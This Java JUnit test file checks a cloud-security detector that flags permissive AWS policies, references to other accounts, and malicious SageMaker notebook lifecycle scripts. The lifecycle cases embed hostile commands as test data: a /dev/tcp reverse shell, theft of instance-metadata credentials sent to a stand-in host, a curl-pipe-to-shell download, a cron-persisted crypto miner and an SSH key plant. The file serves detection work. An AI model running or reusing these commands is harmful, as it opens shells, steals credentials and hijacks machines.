package io.trailsentry.context;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The identity request analyses on the texts {@code requestParameter(…)} gives: a policy that allows
 * anything at all, a principal or ARN list naming another account, a notebook lifecycle script.
 * Cases marked "stratus" are the Stratus Red Team detonation logs' values.
 */
class IdentityRequestsTest {

    private static final String OWN = "111122223333";

    static Stream<Arguments> allowsAny() {
        return Stream.of(
                Arguments.of("scoped Allow", "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::b/*\"}]}", true),
                Arguments.of("Allow among Denies, single-object statement", "{\"Statement\":{\"Effect\":\"Allow\",\"Action\":\"sns:Publish\",\"Resource\":\"*\"}}", true),
                Arguments.of("URL-encoded Allow", "%7B%22Statement%22%3A%5B%7B%22Effect%22%3A%22Allow%22%2C%22Action%22%3A%22*%22%2C%22Resource%22%3A%22*%22%7D%5D%7D", true),
                // near misses
                Arguments.of("Deny only (quarantine written inline)", "{\"Statement\":[{\"Effect\":\"Deny\",\"Action\":[\"iam:*\",\"ec2:RunInstances\"],\"Resource\":\"*\"}]}", false),
                Arguments.of("no statements", "{\"Version\":\"2012-10-17\"}", false),
                Arguments.of("null", null, false),
                Arguments.of("junk", "{{", false));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("allowsAny")
    void policyAllowsAny(String name, String policy, boolean expected) {
        assertThat(IdentityRequests.policyAllowsAny(policy)).isEqualTo(expected);
    }

    static Stream<Arguments> otherAccount() {
        return Stream.of(
                Arguments.of("account id", "210987654321", true),
                Arguments.of("account root ARN", "arn:aws:iam::210987654321:root", true),
                Arguments.of("layer of another account in a list",
                        "[\"arn:aws:lambda:us-east-1:111122223333:layer:own:1\",\"arn:aws:lambda:us-east-1:210987654321:layer:ext:3\"]", true),
                Arguments.of("principals object", "{\"AWS\":[\"arn:aws:iam::210987654321:user/x\"]}", true),
                Arguments.of("JSON string", "\"arn:aws:iam::210987654321:role/r\"", true),
                // near misses
                Arguments.of("stratus layer of the own account",
                        "[\"arn:aws:lambda:eugov-eastcentral-1r:111122223333:layer:stratus-red-team-lambda-layer-my-lambda-extension:1\"]", false),
                Arguments.of("own account id", OWN, false),
                Arguments.of("stratus everyone", "*", false),
                Arguments.of("service principal", "s3.amazonaws.com", false),
                Arguments.of("AWS-owned policy ARN", "arn:aws:iam::aws:policy/AdministratorAccess", false),
                Arguments.of("empty list", "[]", false),
                Arguments.of("not an account (11 digits)", "21098765432", false),
                Arguments.of("null", null, false),
                Arguments.of("junk list", "[{", false));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("otherAccount")
    void namesOtherAccount(String name, String value, boolean expected) {
        assertThat(IdentityRequests.namesOtherAccount(value, OWN)).isEqualTo(expected);
    }

    @ParameterizedTest(name = "unknown own account: {0}")
    @MethodSource("otherAccount")
    void anUnknownOwnAccountNamesNoOtherAccount(String name, String value, boolean ignored) {
        assertThat(IdentityRequests.namesOtherAccount(value, null)).isFalse();
        assertThat(IdentityRequests.namesOtherAccount(value, " ")).isFalse();
    }

    static String lifecycle(String hook, String script) {
        String b64 = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_8));
        return "{\"notebookInstanceLifecycleConfigName\":\"lc\",\"" + hook + "\":[{\"content\":\"" + b64 + "\"}]}";
    }

    static Stream<Arguments> scripts() {
        return Stream.of(
                Arguments.of("reverse shell over /dev/tcp", lifecycle("onStart", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"), "reverse shell"),
                Arguments.of("role credentials from IMDS, sent out",
                        lifecycle("onCreate", "TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token)\ncurl -d @creds https://x.example\n"), "instance metadata"),
                Arguments.of("download and run, upper case", lifecycle("onStart", "CURL -s https://x.example/i.sh | SH\n"), "download and run"),
                Arguments.of("miner and cron", lifecycle("onStart", "(crontab -l; echo '@reboot /tmp/xmrig -o stratum+tcp://pool:3333') | crontab -\n"),
                        "miner"),
                Arguments.of("ssh key planted", lifecycle("onCreate", "echo ssh-ed25519 AAAA >> /home/ec2-user/.ssh/authorized_keys\n"), "ssh key"),
                // near misses
                Arguments.of("auto-stop idle script", lifecycle("onStart",
                        "#!/bin/bash\nset -e\nIDLE_TIME=3600\nwget https://raw.example/autostop.py\n(crontab -l 2>/dev/null; echo \"*/5 * * * * /usr/bin/python3 $PWD/autostop.py --time $IDLE_TIME\") | crontab -\n"),
                        null),
                Arguments.of("pip install and a checksum pipe", lifecycle("onStart", "pip install pandas\nsha256sum model.tar | shasum -c\n"), null),
                Arguments.of("no script", "{\"notebookInstanceLifecycleConfigName\":\"lc\"}", null),
                Arguments.of("not base64", "{\"onStart\":[{\"content\":\"%%%\"}]}", null),
                Arguments.of("null", null, null),
                Arguments.of("junk", "{{", null));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("scripts")
    void lifecycleScriptFindings(String name, String request, String expected) {
        assertThat(NotebookLifecycleScripts.findings(request)).isEqualTo(expected);
        assertThat(NotebookLifecycleScripts.suspicious(request)).isEqualTo(expected != null);
    }
}
